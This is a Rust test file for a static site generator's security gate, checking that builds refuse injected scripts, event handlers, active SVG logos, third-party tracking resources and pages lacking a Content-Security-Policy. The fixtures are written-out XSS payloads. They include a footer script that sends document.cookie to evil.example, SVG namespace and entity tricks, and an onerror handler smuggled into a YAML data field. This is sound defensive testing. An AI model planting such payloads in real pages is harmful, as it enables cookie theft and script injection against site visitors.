//! The gate on the finished site: whatever door script or a third-party resource comes through
//! (a template override, a static file, a chapter, a data field, the logo), the build refuses it,
//! names the source file and the page, and publishes nothing; every page carries the
//! Content-Security-Policy first in `head`.

mod common;

use common::{Diag, EXIT_CONTENT_ERRORS, Project, locate, select_all, single};

/// Writes a file of the project, making its folders.
fn put(project: &Project, relative: &str, text: &str) {
    std::fs::create_dir_all(project.path(relative).parent().unwrap()).unwrap();
    project.write(relative, text);
}

/// The build fails with content errors, writes nothing, and reports `code`.
fn refused(project: &Project, code: &str) -> Vec<Diag> {
    let output = project.output("refused");
    let run = project.build(&output, &[]);
    run.assert_code(EXIT_CONTENT_ERRORS);
    assert!(!output.exists(), "nothing is published\n{}", run.stderr);
    let found: Vec<Diag> = run
        .diagnostics()
        .into_iter()
        .filter(|diag| diag.code == code)
        .collect();
    assert!(!found.is_empty(), "{code} expected\n{}", run.stderr);
    found
}

/// Defect 1: a template override that appends a script to the footer.
#[test]
fn a_template_override_with_a_script_is_refused_at_its_line() {
    let project = Project::default_copy();
    let footer = std::fs::read_to_string(
        common::repo_root().join("themes/agid/templates/partials/footer.html"),
    )
    .unwrap();
    let text =
        format!("{footer}<script>fetch('https://evil.example/?'+document.cookie)</script>\n");
    put(&project, "templates/partials/footer.html", &text);
    let found = refused(&project, "E210");
    assert_eq!(found.len(), 1, "one message for every page: {found:#?}");
    let (line, col) = locate(&text, "<script>fetch(", "fetch(");
    found[0].assert_at("E210", "templates/partials/footer.html", line, col);
    assert!(found[0].message.contains("nella pagina /"), "{found:#?}");
    assert!(found[0].message.contains("e in altre"), "{found:#?}");
}

/// Defect 1, the same door to the CMS fragment.
#[test]
fn a_fragment_override_with_an_event_handler_is_refused() {
    let project = Project::default_copy();
    let fragment =
        std::fs::read_to_string(common::repo_root().join("themes/agid/templates/fragment.html"))
            .unwrap();
    let text = fragment.replacen("<ul ", "<ul onmouseover=\"steal()\" ", 1);
    assert_ne!(text, fragment);
    put(&project, "templates/fragment.html", &text);
    let found = refused(&project, "E211");
    let (line, col) = locate(&text, "onmouseover=\"steal()\"", "onmouseover");
    found[0].assert_at("E211", "templates/fragment.html", line, col);
    assert!(
        found.iter().any(|diag| diag.message.contains("frammento")),
        "{found:#?}"
    );
}

/// Defect 2: HTML and an SVG with script in `static/`.
#[test]
fn static_html_and_active_svg_are_refused() {
    let project = Project::default_copy();
    put(&project, "static/x.html", "<p>pagina</p>\n");
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"1\" height=\"1\" onload=\"alert(1)\"/>\n</svg>\n";
    put(&project, "static/y.svg", svg);
    let output = project.output("public");
    let run = project.build(&output, &[]);
    run.assert_code(EXIT_CONTENT_ERRORS);
    assert!(!output.exists());
    let diagnostics = run.diagnostics();
    let html = diagnostics
        .iter()
        .find(|diag| diag.code == "E216")
        .unwrap_or_else(|| panic!("E216\n{}", run.stderr));
    assert_eq!(html.file.as_deref(), Some("static/x.html"), "{html:#?}");
    let svg_problem = diagnostics
        .iter()
        .find(|diag| diag.code == "E217")
        .unwrap_or_else(|| panic!("E217\n{}", run.stderr));
    let (line, col) = locate(svg, "onload=", "onload");
    svg_problem.assert_at("E217", "static/y.svg", line, col);
    // A plain drawing, an image and a stylesheet pass.
    std::fs::remove_file(project.path("static/x.html")).unwrap();
    put(
        &project,
        "static/y.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>",
    );
    put(
        &project,
        "static/css/comune.css",
        ".a { background: url(../y.svg) }\n",
    );
    project.build(&output, &[]).assert_success();
    assert!(output.join("assets/y.svg").is_file());
}

/// A stylesheet in `static/` that loads from another site is refused at its line.
#[test]
fn a_static_stylesheet_loading_from_another_site_is_refused() {
    let project = Project::default_copy();
    let css = "body {\n  background: url(\"https://tracker.example/p.gif\");\n}\n";
    put(&project, "static/css/comune.css", css);
    let found = refused(&project, "E214");
    let (line, col) = locate(css, "url(\"https", "https");
    found[0].assert_at("E214", "static/css/comune.css", line, col);
}

/// Defect 3: SVG read as XML, as a browser reads `image/svg+xml`.
#[test]
fn the_logo_svg_is_read_as_xml() {
    let payloads = [
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></svg>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\"><h:script>alert(1)</h:script></svg>",
        "<!DOCTYPE svg [<!ENTITY x \"&#60;script&#62;alert(1)&#60;/script&#62;\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>",
    ];
    for payload in payloads {
        let project = Project::default_copy();
        put(&project, "static/img/stemma.svg", payload);
        let site = project.replace(
            "site.toml",
            "colour = \"#0066CC\"\n",
            "colour = \"#0066CC\"\nlogo = \"img/stemma.svg\"\nlogo_alt = \"Stemma\"\n",
        );
        let found = refused(&project, "E192");
        let (line, col) = locate(&site, "logo = \"img/stemma.svg\"", "\"img");
        found[0].assert_at("E192", "site.toml", line, col);
    }
}

/// Defect 11: a chapter's tracking pixel and a raw id that the page already has.
#[test]
fn a_chapter_may_not_load_from_another_site_nor_repeat_the_page_s_ids() {
    let project = Project::default_copy();
    let chapter = "content/chapters/02-descrizione-del-servizio.md";
    let pixel = "<img src=\"https://tracker.example/p.gif\" alt=\"\">";
    let text = project.replace(
        chapter,
        "La DSI opera contemporaneamente",
        &format!("{pixel}\n\n<p id=\"main\">Testo.</p>\n\nLa DSI opera contemporaneamente"),
    );
    let output = project.output("public");
    let run = project.build(&output, &[]);
    run.assert_code(EXIT_CONTENT_ERRORS);
    let diagnostics = run.diagnostics();
    let tracker = diagnostics
        .iter()
        .find(|diag| diag.code == "E214")
        .unwrap_or_else(|| panic!("E214\n{}", run.stderr));
    let (line, col) = locate(&text, "src=\"https://tracker", "src=");
    tracker.assert_at("E214", chapter, line, col);
    assert!(tracker.message.contains("tracker.example"), "{tracker:#?}");
    let id = diagnostics
        .iter()
        .find(|diag| diag.code == "E213")
        .unwrap_or_else(|| panic!("E213\n{}", run.stderr));
    let (line, col) = locate(&text, "<p id=\"main\">", "id=");
    id.assert_at("E213", chapter, line, col);
    assert!(
        id.message.contains("/descrizione-del-servizio/") || id.message.contains("nella pagina /"),
        "{id:#?}"
    );
}

/// An allowed origin lets a chapter show its video, and the policy names it.
#[test]
fn an_allowed_origin_may_be_loaded_and_is_in_the_policy() {
    let project = Project::default_copy();
    project.replace(
        "site.toml",
        "[footer]\n",
        "[security]\nallowed_origins = [\"https://video.example.it\"]\n\n[footer]\n",
    );
    project.replace(
        "content/chapters/02-descrizione-del-servizio.md",
        "La DSI opera contemporaneamente",
        "<img src=\"https://video.example.it/locandina.png\" alt=\"Locandina\">\n\nLa DSI opera contemporaneamente",
    );
    let (_, site) = project.build_site("public", &[]);
    for (url, page) in site.web_pages() {
        let meta = single(
            page,
            "head > meta[http-equiv=Content-Security-Policy]:first-child",
        );
        let policy = meta.value().attr("content").unwrap();
        assert!(
            policy.starts_with("default-src 'self' https://video.example.it;"),
            "{url}: {policy}"
        );
    }
}

/// A malformed origin is E218 at its place in site.toml.
#[test]
fn an_allowed_origin_must_be_an_https_origin() {
    let project = Project::default_copy();
    let text = project.replace(
        "site.toml",
        "[footer]\n",
        "[security]\nallowed_origins = [\"http://video.example.it/percorso\"]\n\n[footer]\n",
    );
    let found = refused(&project, "E218");
    let (line, col) = locate(&text, "[\"http://video", "\"http");
    found[0].assert_at("E218", "site.toml", line, col);
}

/// A data field that a template override writes unescaped: the gate finds the handler in the data.
#[test]
fn a_data_field_smuggling_a_handler_is_refused_in_the_data_file() {
    let project = Project::default_copy();
    let charter = project.replace(
        "content/charter.yaml",
        "office: \"Direzione Sistemi Informativi\"",
        "office: \"Direzione <img src=x onerror=alert(1)> Sistemi Informativi\"",
    );
    let footer = std::fs::read_to_string(
        common::repo_root().join("themes/agid/templates/partials/footer.html"),
    )
    .unwrap();
    put(
        &project,
        "templates/partials/footer.html",
        &footer.replacen("{{ charter.office }}", "{{ charter.office | safe }}", 1),
    );
    let found = refused(&project, "E211");
    let (line, col) = locate(&charter, "onerror=alert(1)", "onerror");
    found[0].assert_at("E211", "content/charter.yaml", line, col);
}

/// Every page opens `head` with the policy, and an override cannot drop it.
#[test]
fn every_page_carries_the_policy_and_an_override_cannot_drop_it() {
    let project = Project::default_copy();
    let (_, site) = project.build_site("public", &[]);
    for (url, page) in site.web_pages() {
        let first = select_all(page, "head > *")[0];
        assert_eq!(
            first.value().attr("http-equiv"),
            Some("Content-Security-Policy"),
            "{url}"
        );
        let policy = first.value().attr("content").unwrap();
        for directive in [
            "script-src 'none'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(policy.contains(directive), "{url}: {policy}");
        }
    }
    let base = std::fs::read_to_string(common::repo_root().join("themes/agid/templates/base.html"))
        .unwrap();
    let without = base.replacen(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"{{ site.csp }}\">\n",
        "",
        1,
    );
    assert_ne!(without, base);
    put(&project, "templates/base.html", &without);
    let found = refused(&project, "E215");
    assert!(found[0].message.contains("nella pagina /"), "{found:#?}");
}

/// `carta check` runs the same gate over the pages and static files it makes.
#[test]
fn check_refuses_what_build_refuses() {
    let project = Project::default_copy();
    put(&project, "static/x.html", "<p>pagina</p>\n");
    let footer = std::fs::read_to_string(
        common::repo_root().join("themes/agid/templates/partials/footer.html"),
    )
    .unwrap();
    put(
        &project,
        "templates/partials/footer.html",
        &format!("{footer}<script>alert(1)</script>\n"),
    );
    let run = project.check(&[]);
    run.assert_code(EXIT_CONTENT_ERRORS);
    let codes: Vec<String> = run
        .diagnostics()
        .into_iter()
        .map(|diag| diag.code)
        .collect();
    assert!(codes.contains(&"E210".to_string()), "{}", run.stderr);
    assert!(codes.contains(&"E216".to_string()), "{}", run.stderr);
}
